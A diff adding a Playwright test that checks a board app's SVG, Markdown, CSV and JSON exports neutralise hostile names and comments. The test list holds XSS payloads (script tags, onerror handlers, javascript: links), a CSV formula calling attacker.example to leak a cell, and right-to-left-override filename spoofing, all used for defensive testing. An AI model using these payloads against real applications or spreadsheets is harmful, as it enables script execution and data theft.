@@ -1,6 +1,8 @@
 import { readFileSync } from 'node:fs';
 import { expect, test, type Page } from '@playwright/test';
 import { generateNKeysBetween } from 'fractional-indexing';
+import { marked } from 'marked';
+import Papa from 'papaparse';
 import { addGroups, addNotes, makeGroup, makeNote } from '../../src/lib/board';
 import { editBoard, joinAs } from './collab-helpers';
 import { createBoard } from './helpers';
@@ -127,4 +129,106 @@ test('printing the board gives numbered landscape pages that each fit the paper'
 	const tooFar = await page.request.get(`/api/boards/${b.id}/export?format=svg&scope=board&paper=a4&page=${count + 1}`);
 	expect(tooFar.status()).toBe(400);
 	expect((await tooFar.json()).message).toContain(`has ${count} pages`);
+});
+
+/** A group's name as a title: white space collapsed (a tab at the start is gone before any escaping). */
+const flat = (text: string) => text.replace(/\s+/g, ' ').trim();
+
+const HOSTILE = [
+	`0"/><script>window.__ran = (window.__ran || 0) + 1; alert('svg')</script>`,
+	`=HYPERLINK("http://attacker.example/?leak="&A1,"Click for details")`,
+	`+SUM(1,2)`,
+	`-2+3 refund`,
+	`@SUM(A1:A9)`,
+	`\t=1+1 after a tab`,
+	`[click me](javascript:window.__ran=1) ![pixel](http://attacker.example/p.png) <img src=x onerror="window.__ran=1">`,
+	`<a href="javascript:alert(1)">link</a> &lt;b&gt; &amp; <!-- comment -->`,
+	`Refund \u202Egnp.exe\u202C and \u2067مرتجع\u2069 today`
+];
+
+/**
+ * Opens `body` in Chromium as a document of `type` and reports anything that ran or could run:
+ * dialogs, console messages, the marker the hostile texts set, script elements, event-handler
+ * attributes, javascript: links and images that would load.
+ */
+async function inert(page: Page, baseURL: string, type: string, body: string) {
+	const ran: string[] = [];
+	page.on('dialog', (d) => (ran.push(`dialog: ${d.message()}`), void d.dismiss()));
+	page.on('console', (m) => ran.push(`console: ${m.text()}`));
+	page.on('pageerror', (e) => ran.push(`error: ${e.message}`));
+	await page.route('**/hostile-under-test', (route) => route.fulfill({ contentType: type, body }));
+	await page.goto(`${baseURL}/hostile-under-test`);
+	const found = await page.evaluate(() => {
+		const all = [...document.querySelectorAll('*')];
+		return {
+			ran: (window as unknown as { __ran?: number }).__ran ?? 0,
+			scripts: document.querySelectorAll('script').length,
+			handlers: all.filter((el) => [...el.attributes].some((a) => a.name.toLowerCase().startsWith('on'))).length,
+			jsLinks: all.filter((el) => /^\s*javascript:/i.test(el.getAttribute('href') ?? el.getAttribute('xlink:href') ?? '')).length,
+			images: document.querySelectorAll('img, image').length
+		};
+	});
+	await page.waitForTimeout(200);
+	return { ...found, events: ran };
+}
+
+test('every export keeps hostile names and comments as text: nothing runs when the files are opened', async ({ browser, baseURL }) => {
+	const b = await createBoard(baseURL!, HOSTILE[0]);
+	await editBoard(baseURL!, b.id, b.links.facilitator, (doc) => {
+		const groups = HOSTILE.map((label, i) => makeGroup({ label, x: 40 + i * 400, y: 40, order: `a${i}`, department: 'dept_hostile' }));
+		addGroups(doc, groups, { kind: 'server' });
+		addNotes(
+			doc,
+			groups.map((g, i) => makeNote({ text: HOSTILE[(i + 1) % HOSTILE.length], fields: { satisfaction: 1 }, groupId: g.id, order: 'a0', createdBy: 'seed' })),
+			{ kind: 'server' }
+		);
+	});
+	const context = await browser.newContext();
+	const get = async (query: string) => {
+		const res = await context.request.get(`${baseURL}/api/boards/${b.id}/export?${query}`, { headers: { authorization: `Bearer ${new URL(b.links.facilitator).searchParams.get('token')}` } });
+		expect(res.ok(), query).toBe(true);
+		return res.text();
+	};
+
+	// The check itself sees a script that runs.
+	const control = await context.newPage();
+	expect((await inert(control, baseURL!, 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg"><script>window.__ran = 1</script></svg>')).ran).toBe(1);
+	await control.close();
+
+	// SVG, as the downloaded file is opened: no script element, handler or link survives, nothing runs.
+	for (const query of ['format=svg', 'format=svg&scope=groups', 'format=svg&paper=a4']) {
+		const svg = await get(query);
+		for (const text of ['window.__ran', 'HYPERLINK', 'javascript:']) expect(svg).toContain(text);
+		expect(svg).not.toMatch(/[\u202a-\u202e]/);
+		const page = await context.newPage();
+		expect(await inert(page, baseURL!, 'image/svg+xml', svg), query).toEqual({ ran: 0, scripts: 0, handlers: 0, jsLinks: 0, images: 0, events: [] });
+		await page.close();
+	}
+
+	// Markdown, rendered to HTML as a wiki or a chat would: the names stay visible text.
+	const md = await get('format=md');
+	const html = await marked.parse(md, { async: false });
+	const page = await context.newPage();
+	expect(await inert(page, baseURL!, 'text/html; charset=utf-8', html)).toEqual({ ran: 0, scripts: 0, handlers: 0, jsLinks: 0, images: 0, events: [] });
+	const text = await page.locator('body').innerText();
+	expect(text).toContain(`[click me](javascript:window.__ran=1)`);
+	expect(text).toContain(`<a href="javascript:alert(1)">link</a> &lt;b&gt; &amp;`);
+	expect(text).not.toMatch(/[\u202a-\u202e]/);
+	await page.close();
+
+	// CSV: no cell starts a formula; the spreadsheet file marks them with an apostrophe, the tracker
+	// files with a space the importers trim, so each reads back as the original text.
+	const readCsv = async (query: string) => Papa.parse<string[]>((await get(query)).replace(/^\ufeff/, ''), { skipEmptyLines: true }).data.flat();
+	const generic = await readCsv('format=csv');
+	for (const jira of [await readCsv('format=csv&target=jira'), await readCsv('format=csv&target=azure')]) {
+		for (const cell of jira) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+		for (const name of HOSTILE.slice(1, 6)) expect(jira.map((c) => c.trim()), name).toContain(flat(name));
+	}
+	for (const cell of generic) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
+	for (const name of HOSTILE.slice(1, 6)) expect(generic, name).toContain(`'${flat(name)}`);
+
+	// Data exports carry the text unchanged.
+	const tasks = JSON.parse(await get('format=tasks.json')) as { tasks: { title: string }[] };
+	expect(tasks.tasks.map((t) => t.title)).toEqual(expect.arrayContaining(HOSTILE.slice(1, 3)));
+	await context.close();
 });
